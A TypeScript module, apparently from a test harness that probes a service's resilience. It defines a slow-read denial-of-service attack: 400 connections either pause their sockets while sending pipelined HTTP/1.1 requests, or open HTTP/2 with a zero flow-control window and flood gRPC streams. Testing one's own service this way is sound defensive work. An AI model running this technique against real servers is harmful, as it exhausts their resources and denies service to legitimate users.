/** Clients that ask for much and read nothing: windows of zero over HTTP/2, full buffers over HTTP/1.1. */
import {
  type Attack,
  attackerAddress,
  enveloped,
  flags,
  frame,
  grpcBlock,
  hold,
  Peer,
  setting,
  type,
} from '../wire.ts';

const connections = 400;
const streams = 100;
const initialWindow = 4;
const block = grpcBlock('/leasehold.v1.JobsService/ListJobs');
const message = enveloped(Buffer.alloc(0));
const request = 'GET /openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n';

export const slowReaders: Attack = {
  name: 'slow-readers',
  about: '400 connections that ask 100 times and read nothing',
  run: ({ http, grpc }, signal) =>
    hold(
      connections,
      signal,
      async (n) => {
        const from = attackerAddress(n % 2);
        if (n % 2 === 0) {
          const peer = await Peer.open(http, from);
          peer?.socket.pause();
          void peer?.write(Buffer.from(request.repeat(99)));
          return peer;
        }
        const peer = await Peer.openHttp2(grpc, setting(initialWindow, 0), from);
        if (!peer) return undefined;
        const frames: Buffer[] = [];
        for (let i = 0; i < streams; i++) {
          const stream = peer.nextStream();
          frames.push(
            frame(type.headers, flags.endHeaders, stream, block),
            frame(type.data, flags.endStream, stream, message),
          );
        }
        void peer.write(Buffer.concat(frames));
        return peer;
      },
      async () => {},
    ),
};
